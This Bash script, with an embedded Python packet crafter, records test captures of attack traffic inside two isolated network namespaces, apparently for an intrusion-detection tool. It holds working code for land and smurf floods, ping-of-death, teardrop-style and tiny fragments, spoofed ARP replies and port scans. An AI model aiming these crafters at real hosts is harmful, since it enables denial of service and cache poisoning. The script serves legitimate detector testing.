#!/bin/bash
# Record the captures in tests/data/suspicious with real tools.  Two
# private network namespaces are joined by a veth pair, and tcpdump runs
# on the victim's end.  The other namespace sends land, bad TCP flag,
# smurf, ping of death, fragment, ARP spoofing, forbidden port and
# benign traffic.  hping3, nmap, ping and curl send what they can, and an
# embedded Python 3 program writes the IPv4 fragments and ARP replies
# that no installed tool crafts.  Run as root from anywhere in the source
# tree.  The script replaces the files.
#
#   tests/tools/record_suspicious.sh
#
# Addresses come from 10.233.0.0/24 and fd00:233::/64, which exist only
# inside the two namespaces, so no packet leaves the machine.  After each
# recording the script prints the packets as tshark decodes them and
# exits with status 1 unless tshark finds the packets the case needs.
set -eu
cd "$(dirname "$0")/../.."
out=tests/data/suspicious
mkdir -p "$out"

# Debian's interpreter: the python3 first on PATH may be another one.
python=/usr/bin/python3

victim_ns=nssus-victim-$$
attacker_ns=nssus-attacker-$$
victim_if=nssus0
attacker_if=nssus1
victim_ip=10.233.0.1
attacker_ip=10.233.0.2
victim_ip6=fd00:233::1
attacker_ip6=fd00:233::2
# Fixed, locally administered MAC addresses, so that the README can name
# them and every run records the same link-layer addresses.
victim_mac=02:00:0a:e9:00:01
attacker_mac=02:00:0a:e9:00:02

tmp=$(mktemp -d /tmp/nssus.XXXXXX)
pids=()

cleanup() {
	local pid

	for pid in "${pids[@]}"; do
		kill "$pid" 2>/dev/null || true
		wait "$pid" 2>/dev/null || true
	done
	ip netns del "$victim_ns" 2>/dev/null || true
	ip netns del "$attacker_ns" 2>/dev/null || true
	rm -rf "$tmp"
}
trap cleanup EXIT

victim() {
	ip netns exec "$victim_ns" "$@"
}

attacker() {
	ip netns exec "$attacker_ns" "$@"
}

# Bring up one end of the veth pair.  IPv6 duplicate address detection
# and router solicitations are off so that they do not land in the
# first captures.
setup_end() {
	local ns=$1 ifname=$2 mac=$3 ip=$4 ip6=$5

	ip netns exec "$ns" sysctl -qw \
	    "net.ipv6.conf.$ifname.accept_dad=0" \
	    "net.ipv6.conf.$ifname.router_solicitations=0"
	ip -n "$ns" link set "$ifname" address "$mac"
	ip -n "$ns" addr add "$ip/24" dev "$ifname"
	ip -n "$ns" addr add "$ip6/64" dev "$ifname" nodad
	ip -n "$ns" link set lo up
	ip -n "$ns" link set "$ifname" up
}

setup_namespaces() {
	ip netns add "$victim_ns"
	ip netns add "$attacker_ns"
	ip link add "$victim_if" netns "$victim_ns" type veth \
	    peer name "$attacker_if" netns "$attacker_ns"
	setup_end "$victim_ns" "$victim_if" "$victim_mac" "$victim_ip" \
	    "$victim_ip6"
	setup_end "$attacker_ns" "$attacker_if" "$attacker_mac" \
	    "$attacker_ip" "$attacker_ip6"

	# Linux ignores echo requests to a broadcast address by default, so
	# the victim accepts them here, as a vulnerable host would.  It still
	# sends no reply, because Linux drops a packet that arrives with one
	# of its own addresses as source unless accept_local is set.
	victim sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=0

	# The namespace has no default route, so without this route the
	# kernel rejects a datagram to 255.255.255.255 with ENETUNREACH.
	ip -n "$attacker_ns" route add 255.255.255.255/32 dev "$attacker_if"
}

# Permanent neighbour entries keep the kernel's ARP requests out of the
# attack captures (nmap still sends its own).  The ARP and benign cases
# remove the entries to record ordinary address resolution.
pin_neighbours() {
	ip -n "$victim_ns" neigh replace "$attacker_ip" \
	    lladdr "$attacker_mac" dev "$victim_if" nud permanent
	ip -n "$attacker_ns" neigh replace "$victim_ip" \
	    lladdr "$victim_mac" dev "$attacker_if" nud permanent
}

forget_neighbours() {
	ip -n "$victim_ns" neigh flush dev "$victim_if" nud all
	ip -n "$attacker_ns" neigh flush dev "$attacker_if" nud all
}

# Write the Python program that sends what no installed tool crafts.  It
# needs only the standard library.
write_crafter() {
	cat >"$tmp/craft.py" <<'EOF'
"""Send crafted IPv4 fragments, ARP replies and UDP datagrams.

Usage: craft.py pod|overlap|tiny SRC DST
       craft.py arp IFACE MAC CLAIMED_IP
       craft.py udp DST PORT SIZE
       craft.py sink ADDRESS PORT
"""

import socket
import struct
import sys

IPPROTO_ICMP = 1
IPPROTO_TCP = 6
IPPROTO_UDP = 17
MF = 0x2000


def checksum(data):
    """Return the Internet checksum (RFC 1071) of data."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ipv4_fragment(src, dst, proto, ident, offset, more, payload):
    """Return one IPv4 packet: a 20-byte header and payload."""
    assert offset % 8 == 0
    assert offset <= 65528
    frag = (MF if more else 0) | offset // 8
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload),
                         ident, frag, 64, proto, 0, socket.inet_aton(src),
                         socket.inet_aton(dst))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + payload


def send_fragments(src, dst, proto, ident, pieces):
    """Send (offset, bytes, more) pieces as fragments of one datagram.

    IPPROTO_RAW implies IP_HDRINCL, so the kernel sends each header as
    written and never fragments the packet again.  As raw(7) says, it
    rewrites only the total length and the checksum, to the same values.
    """
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for offset, data, more in pieces:
        packet = ipv4_fragment(src, dst, proto, ident, offset, more, data)
        sock.sendto(packet, (dst, 0))
    sock.close()


def icmp_echo(ident, seq, data):
    """Return an ICMP echo request message with a valid checksum."""
    head = struct.pack("!BBHHH", 8, 0, 0, ident, seq)
    csum = checksum(head + data)
    return head[:2] + struct.pack("!H", csum) + head[4:] + data


def tcp_syn(src, dst, sport, dport, seq):
    """Return a 20-byte TCP SYN header with a valid checksum."""
    head = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02,
                       64240, 0, 0)
    pseudo = struct.pack("!4s4sBBH", socket.inet_aton(src),
                         socket.inet_aton(dst), 0, IPPROTO_TCP, len(head))
    csum = checksum(pseudo + head)
    return head[:16] + struct.pack("!H", csum) + head[18:]


def pattern(size):
    return bytes(i % 256 for i in range(size))


def ping_of_death(src, dst):
    """Send a 65600-byte ICMP echo in 1480-byte fragments.

    The last fragment starts at 65120 and ends at 65600, so the datagram
    would be 65620 bytes with its header, more than the 65535 that the
    IPv4 total length field can state.
    """
    message = icmp_echo(0x5044, 1, pattern(65600 - 8))
    pieces = []
    for offset in range(0, len(message), 1480):
        chunk = message[offset:offset + 1480]
        pieces.append((offset, chunk, offset + 1480 < len(message)))
    send_fragments(src, dst, IPPROTO_ICMP, 0x7c01, pieces)


def overlap(src, dst):
    """Send two datagrams whose fragments overlap with different ranges.

    The first has teardrop's sizes, the same as in
    tests/data/odd/ipv4_teardrop_overlapping_frags.pcap: UDP bytes 0-35,
    then a last fragment with bytes 24-27, inside the first.  The second
    is an ICMP echo in bytes 0-31 and a last fragment with bytes 24-55,
    which carries other data in bytes 24-31.
    """
    udp = struct.pack("!HHHH", 40000, 9, 36, 0) + b"A" * 28
    send_fragments(src, dst, IPPROTO_UDP, 0x7a01, [
        (0, udp, True),
        (24, b"BBBB", False),
    ])
    echo = icmp_echo(0x4f56, 1, b"C" * 48)
    send_fragments(src, dst, IPPROTO_ICMP, 0x7a02, [
        (0, echo[:32], True),
        (24, b"D" * 8 + echo[32:], False),
    ])


def tiny(src, dst):
    """Send two TCP SYNs to port 80, each split inside the TCP header.

    The first SYN has a 16-byte first fragment, which ends before the
    checksum and urgent pointer, and the last 4 header bytes at offset
    16.  The second is the tiny fragment attack of RFC 1858: an 8-byte
    first fragment with the ports and sequence number, then the rest of
    the header, flags included, in a fragment at offset 8.
    """
    syn = tcp_syn(src, dst, 40001, 80, 1000)
    send_fragments(src, dst, IPPROTO_TCP, 0x7b01, [
        (0, syn[:16], True),
        (16, syn[16:], False),
    ])
    syn = tcp_syn(src, dst, 40002, 80, 2000)
    send_fragments(src, dst, IPPROTO_TCP, 0x7b02, [
        (0, syn[:8], True),
        (8, syn[8:], False),
    ])


def arp_reply(ifname, mac, claimed_ip):
    """Broadcast one ARP reply saying claimed_ip is at mac."""
    hw = bytes.fromhex(mac.replace(":", ""))
    ip = socket.inet_aton(claimed_ip)
    broadcast = b"\xff" * 6
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, hw, ip,
                      broadcast, ip)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((ifname, 0))
    sock.send(broadcast + hw + struct.pack("!H", 0x0806) + arp)
    sock.close()


def udp(dst, port, size):
    """Send one UDP datagram, which the kernel fragments above the MTU."""
    family = socket.AF_INET6 if ":" in dst else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.sendto(b"x" * size, (dst, port))
    sock.close()


def sink(address, port):
    """Receive UDP datagrams and drop them until killed."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((address, port))
    while True:
        sock.recv(65535)


def main(argv):
    commands = {
        "pod": lambda a: ping_of_death(a[0], a[1]),
        "overlap": lambda a: overlap(a[0], a[1]),
        "tiny": lambda a: tiny(a[0], a[1]),
        "arp": lambda a: arp_reply(a[0], a[1], a[2]),
        "udp": lambda a: udp(a[0], int(a[1]), int(a[2])),
        "sink": lambda a: sink(a[0], int(a[1])),
    }
    if len(argv) < 2 or argv[1] not in commands:
        sys.exit(__doc__)
    commands[argv[1]](argv[2:])


main(sys.argv)
EOF
}

craft() {
	attacker "$python" "$tmp/craft.py" "$@"
}

# Start a web server with a small page and a UDP sink on the victim, for
# the benign case.
start_servers() {
	mkdir "$tmp/www"
	head -c 4000 /dev/zero | tr '\0' 'x' >"$tmp/www/page.txt"
	(cd "$tmp/www" && exec ip netns exec "$victim_ns" "$python" \
	    -m http.server --bind :: 80 >/dev/null 2>&1) &
	pids+=($!)
	ip netns exec "$victim_ns" "$python" "$tmp/craft.py" sink \
	    "$victim_ip" 5001 &
	pids+=($!)
	sleep 1
}

# Record what the command after the file name sends, on the victim's
# end, and stop tcpdump by pid once the traffic is over.  The tools'
# output goes to a log that is shown if a check fails.
record() {
	local file=$1 tcpdump_pid

	shift
	ip netns exec "$victim_ns" tcpdump -n -U -s 262144 \
	    -i "$victim_if" -Z root -w "$out/$file" 2>/dev/null &
	tcpdump_pid=$!
	sleep 1
	# hping3 exits 1 when no reply arrives, which is normal here, so the
	# tshark checks decide whether the traffic was sent.
	"$@" >"$tmp/$file.log" 2>&1 || true
	sleep 1
	kill -INT "$tcpdump_pid"
	wait "$tcpdump_pid" || true
	echo "record_suspicious: $file: $(tshark -n -r "$out/$file" \
	    2>/dev/null | wc -l) packets"
	tshark -n -r "$out/$file" 2>/dev/null | sed 's/^/    /'
}

# Exit with status 1 unless exactly COUNT packets of FILE match the
# tshark display filter.  DEFRAGMENT is TRUE to let tshark reassemble
# IPv4 datagrams, which sets its overlap and reassembly fields, or FALSE
# to let a filter see each fragment's own header.  tshark 4.0 gives
# ip.frag_offset in 8-byte units, as the header stores it.
check_count() {
	local file=$1 count=$2 filter=$3 defragment=$4 n

	n=$(tshark -n -o "ip.defragment:$defragment" -r "$out/$file" \
	    -Y "$filter" 2>/dev/null | wc -l)
	if [ "$n" -ne "$count" ]; then
		echo "record_suspicious: $file: $n packets match" \
		    "'$filter', expected $count.  Output of the tools:" >&2
		cat "$tmp/$file.log" >&2
		exit 1
	fi
}

expect() {
	check_count "$1" "$2" "$3" FALSE
}

expect_reassembled() {
	check_count "$1" "$2" "$3" TRUE
}

send_land() {
	attacker hping3 -q -n -S -a "$victim_ip" -s 80 -k -p 80 -c 3 \
	    -i u200000 "$victim_ip"
}

record_land() {
	local v=$victim_ip

	record land_hping3.pcap send_land
	expect land_hping3.pcap 3 "ip.src == $v && ip.dst == $v &&
	    tcp.srcport == 80 && tcp.dstport == 80 && tcp.flags == 0x002"
}

send_bad_flags() {
	attacker hping3 -q -n -S -F -p 80 -c 2 -i u200000 "$victim_ip"
	attacker hping3 -q -n -S -R -p 80 -c 2 -i u200000 "$victim_ip"
	attacker hping3 -q -n -p 80 -c 2 -i u200000 "$victim_ip"
	attacker hping3 -q -n -F -P -U -p 80 -c 2 -i u200000 "$victim_ip"
}

record_bad_flags() {
	local file=bad_flags_hping3.pcap tcp

	record "$file" send_bad_flags
	tcp="ip.src == $attacker_ip && ip.dst == $victim_ip &&
	    tcp.dstport == 80"
	expect "$file" 2 "$tcp && tcp.flags == 0x003"	# SYN, FIN
	expect "$file" 2 "$tcp && tcp.flags == 0x006"	# SYN, RST
	expect "$file" 2 "$tcp && tcp.flags == 0x000"	# none
	expect "$file" 2 "$tcp && tcp.flags == 0x029"	# FIN, PSH, URG
}

send_smurf() {
	attacker hping3 -q -n -1 -a "$victim_ip" -c 3 -i u200000 \
	    10.233.0.255
	attacker hping3 -q -n -1 -a "$victim_ip" -c 2 -i u200000 \
	    255.255.255.255
}

record_smurf() {
	local file=smurf_hping3.pcap request

	record "$file" send_smurf
	request="ip.src == $victim_ip && icmp.type == 8 &&
	    eth.dst == ff:ff:ff:ff:ff:ff"
	expect "$file" 3 "$request && ip.dst == 10.233.0.255"
	expect "$file" 2 "$request && ip.dst == 255.255.255.255"
}

record_ping_of_death() {
	local file=ping_of_death.pcap

	record "$file" craft pod "$attacker_ip" "$victim_ip"
	expect "$file" 45 "ip.src == $attacker_ip && ip.proto == 1"
	expect "$file" 1 "ip.frag_offset == 8140 && ip.len == 500 &&
	    ip.flags.mf == 0"
	expect_reassembled "$file" 1 "ip.reassembled.length == 65600 &&
	    icmp.type == 8"
}

record_overlap() {
	local file=overlap_fragments.pcap

	record "$file" craft overlap "$attacker_ip" "$victim_ip"
	expect "$file" 2 "ip.id == 0x7a01 &&
	    ((ip.frag_offset == 0 && ip.len == 56 && ip.flags.mf == 1) ||
	    (ip.frag_offset == 3 && ip.len == 24 && ip.flags.mf == 0))"
	expect "$file" 2 "ip.id == 0x7a02 &&
	    ((ip.frag_offset == 0 && ip.len == 52 && ip.flags.mf == 1) ||
	    (ip.frag_offset == 3 && ip.len == 52 && ip.flags.mf == 0))"
	expect_reassembled "$file" 2 "ip.fragment.overlap.conflict"
}

record_tiny() {
	local file=tiny_fragment.pcap tcp

	record "$file" craft tiny "$attacker_ip" "$victim_ip"
	tcp="ip.src == $attacker_ip && ip.proto == 6"
	expect "$file" 1 "$tcp && ip.frag_offset == 0 && ip.flags.mf == 1 &&
	    ip.len == 36"
	expect "$file" 1 "$tcp && ip.frag_offset == 1"
}

send_forbidden() {
	attacker nmap -n -Pn -sS -p 31337,12345 "$victim_ip"
	craft udp "$victim_ip" 31337 1
}

record_forbidden() {
	local file=forbidden_ports.pcap from="ip.src == $attacker_ip"

	record "$file" send_forbidden
	expect "$file" 1 "$from && tcp.dstport == 31337 && tcp.flags == 0x002"
	expect "$file" 1 "$from && tcp.dstport == 12345 && tcp.flags == 0x002"
	# The victim's port unreachable quotes the datagram's UDP header.
	expect "$file" 1 "$from && udp.dstport == 31337 && !icmp"
}

# The victim replies to an ARP request for its address.  Then the
# attacker claims that address twice, 3 seconds apart, because spoofing
# tools repeat the claim to keep caches poisoned.
send_arp_spoof() {
	attacker ping -n -c 1 "$victim_ip"
	sleep 1
	craft arp "$attacker_if" "$attacker_mac" "$victim_ip"
	sleep 3
	craft arp "$attacker_if" "$attacker_mac" "$victim_ip"
}

record_arp_spoof() {
	local file=arp_spoof.pcap reply

	forget_neighbours
	record "$file" send_arp_spoof
	reply="arp.opcode == 2 && arp.src.proto_ipv4 == $victim_ip"
	expect "$file" 1 "$reply && arp.src.hw_mac == $victim_mac"
	expect "$file" 2 "$reply && arp.src.hw_mac == $attacker_mac"
}

send_benign() {
	attacker ping -n -c 3 -i 0.2 "$victim_ip"
	attacker ping -n -c 3 -i 0.2 "$victim_ip6"
	attacker curl -s -o /dev/null "http://$victim_ip/page.txt"
	craft udp "$victim_ip" 5001 8000
}

record_benign() {
	local file=benign_mixed.pcap

	forget_neighbours
	record "$file" send_benign
	expect "$file" 1 "arp.opcode == 2"
	expect "$file" 6 "icmp.type == 8 || icmpv6.type == 128"
	expect "$file" 1 "http.request.uri == \"/page.txt\""
	expect "$file" 6 "ip.src == $attacker_ip && ip.proto == 17 &&
	    (ip.flags.mf == 1 || ip.frag_offset > 0)"
}

setup_namespaces
write_crafter
start_servers
# Let the IPv6 multicast listener reports that follow link-up pass.
sleep 2

pin_neighbours
record_land
record_bad_flags
record_smurf
record_ping_of_death
record_overlap
record_tiny
record_forbidden
# These two remove the permanent neighbour entries, so they come last.
record_arp_spoof
record_benign
